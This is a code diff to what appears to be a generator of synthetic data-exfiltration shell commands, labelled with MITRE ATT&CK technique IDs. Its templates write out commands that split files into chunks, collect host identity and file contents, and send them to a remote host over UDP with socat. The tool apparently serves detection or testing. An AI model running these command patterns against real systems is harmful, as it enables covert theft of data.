@@ -97,10 +97,7 @@ const pieces: Attack = {
       [`split -n ${draw.int(4, 14)} ${path} ${parts}`, `for f in ${parts}*; do ${one}; sleep ${pause}; done`],
       [
         `split -n ${draw.int(4, 12)} -d ${path} ${parts}`,
-        `ls ${parts}* | while read -r f; do ${one} < /dev/null; rm $f; sleep ${pause}; done`.replace(
-          ' < $f > /dev/null < /dev/null',
-          ' < $f > /dev/null',
-        ),
+        `ls ${parts}* | while read -r f; do ${one}; rm $f; sleep ${pause}; done`,
       ],
       [
         write(
@@ -127,7 +124,7 @@ const names: Attack = {
   family: 'data-sent-by-datagram',
   techniques: ['T1048.003', 'T1071.004', 'T1572', 'T1005'],
   as: 'either',
-  needs: ['nc', 'python3', 'xxd', 'dig', 'host', 'socat', 'sudo', 'openssl', 'zip'],
+  needs: ['nc', 'python3', 'xxd', 'dig', 'socat'],
   lines: (draw, place) => {
     const { host } = remote(draw, place);
     const domain = `${draw.word()}.${draw.word()}.${draw.pick(['com', 'net', 'io', 'org'])}`;
@@ -148,7 +145,7 @@ const names: Attack = {
       `timeout 10 socat -u FILE:${path} UDP:${host}:${port}`,
     ];
     return [
-      ...look(draw, draw.int(0, 3)),
+      ...look(draw, draw.int(1, 3)),
       draw.pick([
         `cat ${source} > ${path} 2>/dev/null`,
         `(hostname; id; cat ${source}) > ${path} 2>/dev/null`,
